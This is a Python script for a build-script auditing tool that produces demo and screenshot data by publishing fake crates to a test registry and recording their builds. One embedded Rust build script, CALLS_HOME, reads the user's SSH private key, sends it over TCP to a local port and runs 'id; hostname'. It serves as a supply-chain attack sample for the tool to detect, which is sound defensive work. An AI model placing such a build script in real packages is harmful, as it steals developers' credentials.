"""Makes the inputs of the pictures by real builds: `python -m screenshots.record FOLDER`.

`learn` and `ci` are the demo's build, recorded and held. `review` is an update: packages are
published to a folder, learnt, updated and built again; one patch release brings a new crate along,
whose build script calls home. What differs from run to run and from machine to machine is fixed.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from buildperm.policy.access import Outcome
from buildperm.policy.fold import fold
from buildperm.presentation.front_end import ReviewEnd
from buildperm.report import json as json_report
from buildperm.report.build_run import BuildRun, ScriptRun
from buildperm.report.finding import Report
from buildperm.tracer.recording import reader
from buildperm.workflow.learning import Learning
from buildperm.workflow.review_options import ReviewOptions
from buildperm.workflow.workspace import open_contexts
from tests.registry import Registry

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

    from buildperm.policy.comparison import Comparison

_BUILDPERM: Final = (sys.executable, "-m", "buildperm")
_ORDER: Final = ("left-padding", "checksum", "messages", "stamp", "compat")
"""The crate that misbehaves first, as it is shown first."""

_FIXED: Final = (
    (re.compile(rf'{tempfile.gettempdir()}/buildperm-[^ "]*'), "/home/you/…"),  # One cut short.
    (re.compile(r"/cc\w{6}\.(\w)\b"), r"/ccXXXXXX.\1"),  # What the C compiler made for a while.
    (re.compile(r"127\.0\.0\.1:\d{4,}"), "127.0.0.1:40747"),
    (re.compile(r"-[0-9a-f]{16}\b"), "-0123456789abcdef"),
    (re.compile(r'("(?:first_ns|last_ns|duration_ns)": )\d+'), r"\g<1>0"),
    (re.compile(r'("(?:kernel|buildperm)": )"[^"]*"'), r'\1""'),
    (re.compile(r'("landlock_abi": )\d+'), r"\g<1>7"),
)

GENERATES = """\
//! Generates the table of message types.

use std::{env, fs, path::PathBuf};

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    fs::write(out.join("types.rs"), "pub const TYPES: &[&str] = &[];").unwrap();
}
"""
STAMPS = GENERATES.replace(
    "use std::{env, fs, path::PathBuf};",
    "use std::{env, fs, path::PathBuf, process::Command};",
).replace(
    "    let out =",
    """\
    // The revision goes into the version that peers are told.
    let revision = Command::new("git").args(["describe", "--always"]).output();
    println!("cargo::rustc-env=REVISION={}", revision.is_ok());
    println!("cargo::rerun-if-env-changed=RELEASE_CHANNEL");
    let out =""",
)
CALLS_HOME = """\
use std::{fs, io::Write, net::TcpStream, process::Command};

fn main() {
    let key = fs::read(concat!(env!("HOME"), "/.ssh/id_ed25519")).unwrap_or_default();
    if let Ok(mut home) = TcpStream::connect("127.0.0.1:9") {
        let _ = home.write_all(&key);
    }
    let _ = Command::new("sh").args(["-c", "id; hostname"]).output();
}
"""
HARMLESS = "fn main() {}\n"


class Watching(Learning):
    """A review that keeps what it would ask instead of asking."""

    kept: str

    def decide(self) -> ReviewEnd:
        """Keep what is asked, and leave it undecided."""
        asked = self.session()
        crates = dict.fromkeys((each.crate, each.version) for each in self.review.proposals)
        runs = {(one.run.crate, one.run.version): one.run for one in self.recorded.scripts}
        scene = {
            "heading": asked.heading,
            "summary": asked.summary,
            "scripts": asked.ran.scripts,
            "comparisons": [_compared(self.comparisons[crate]) for crate in crates],
        }
        self.kept = _document([runs[crate] for crate in crates], scene)
        return ReviewEnd.KEEP


def publish(registry: Registry, folder: Path) -> Path:
    """Publish the old versions, and make a workspace that depends on them."""
    registry.publish("arrayref", "0.3.9")
    registry.publish("wire-types", "2.4.0", {"build.rs": GENERATES})
    for name in ("small-clock", "byte-order", "hash-seed"):
        registry.publish(name, "1.0.0", {"build.rs": HARMLESS})
    return registry.application(
        folder,
        dependencies={
            "arrayref": "0.3",
            "wire-types": "2",
            "small-clock": "1",
            "byte-order": "1",
            "hash-seed": "1",
        },
        name="postcard",
    )


def update(registry: Registry, workspace: Path) -> None:
    """Publish the new versions, and take them."""
    registry.publish("proc-helper", "0.1.0", {"build.rs": CALLS_HOME})
    registry.publish("arrayref", "0.3.10", dependencies={"proc-helper": "0.1"})
    registry.publish("wire-types", "2.4.1", {"build.rs": STAMPS})
    registry.publish("byte-order", "1.0.1", {"build.rs": HARMLESS + "\n"})
    registry.cargo("update", folder=workspace)


def update_review(folder: Path) -> str:
    """Return what a review asks after the update."""
    registry = Registry(folder / "registry")
    workspace = publish(registry, folder / "postcard")
    os.environ |= registry.environment
    os.chdir(workspace)
    learn = [*_BUILDPERM, "learn", "--no-tui", "--accept", "medium"]
    subprocess.run(learn, check=True, stdin=subprocess.DEVNULL)
    update(registry, workspace)
    watching = Watching(open_contexts(()), ReviewOptions("review"), None)
    watching.run()
    return fixed(watching.kept, folder)


def demo(folder: Path) -> dict[str, str]:
    """Return what the demo's build scripts do: recorded by `learn`, and held by `ci`."""
    played = subprocess.run(
        [*_BUILDPERM, "demo", "--no-tui", "--keep"],
        check=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=os.environ | {"TMPDIR": str(folder)},
    )
    needs = r"\d+ of \d+ (?:build script|crate)s needs? you.*?(?=\.$)"
    summary = re.search(needs, played.stdout, re.MULTILINE)
    if summary is None:
        raise SystemExit(played.stdout)
    (kept,) = folder.glob("buildperm-demo-*")
    found = {}
    for name in ("learn", "ci"):
        builds = (kept / "workspace/target/buildperm" / name / "debug/build").glob(
            "*/buildperm/recording.jsonl"
        )
        runs = sorted(map(_run, builds), key=lambda run: _ORDER.index(run.crate))
        scene = {
            "heading": "learn  workspace",
            "summary": summary[0],
            "scripts": len(runs),
            "comparisons": [],
        }
        found[name] = fixed(_document(runs, scene), kept)
    return found


def fixed(document: str, folder: Path) -> str:
    """Return a document without what differs from run to run."""
    for real in (folder, Path.home()):
        document = document.replace(f"{real}/", "/home/you/")
    for pattern, instead in _FIXED:
        document = pattern.sub(instead, document)
    return document


def _run(path: Path) -> ScriptRun:
    recorded = reader.read(path)
    # Where else programs were looked for differs from one machine's PATH to another's.
    accesses = tuple(
        access
        for access in fold(recorded)
        if not (access.outcome is Outcome.FAILED and access.target.startswith("/"))
    )
    return ScriptRun(
        crate=recorded.header.crate,
        version=recorded.header.crate_version,
        source="",
        way=(recorded.header.crate,),  # All are members of the workspace.
        events=len(recorded.events),
        accesses=len(accesses),
        duration_ns=0,
        findings=(),
        failure=recorded.end.failure,
        everything=accesses,
    )


def _document(runs: Iterable[ScriptRun], scene: Mapping[str, object]) -> str:
    """Write what the pictures need of a report, and what no report has."""
    run = BuildRun("portable", 7, "", (), tuple(runs), 0)
    document: dict[str, Any] = json.loads(
        json_report.document(Report(run, (), "workspace", "Cargo.toml", 0))
    )
    for script in document["scripts"]:
        script["findings"] = []  # They are made anew.
    return json.dumps(document | {"scene": scene}, indent=1) + "\n"


def _compared(found: Comparison) -> dict[str, object]:
    return {
        "crate": found.crate,
        "version": found.version,
        "before": found.before,
        "way": found.way,
        "causes": found.causes,
        **{
            name: [[seen.kind, seen.target, seen.outcome] for seen in sorted(which)]
            for name, which in (("new", found.new), ("gone", found.gone), ("same", found.same))
        },
        "sources": [
            [one.name, *(raw and raw.decode() for raw in (one.before, one.after))]
            for one in found.sources
        ],
        "without_sources": found.without_sources,
    }


def main() -> None:
    """Write all inputs into the folder that is named on the command line."""
    target = Path(sys.argv[1]).resolve()
    target.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="buildperm-screenshots-") as temporary:
        for name, document in demo(Path(temporary)).items():
            (target / f"{name}.json").write_text(document, "utf-8")
        (target / "review.json").write_text(update_review(Path(temporary)), "utf-8")


if __name__ == "__main__":
    main()
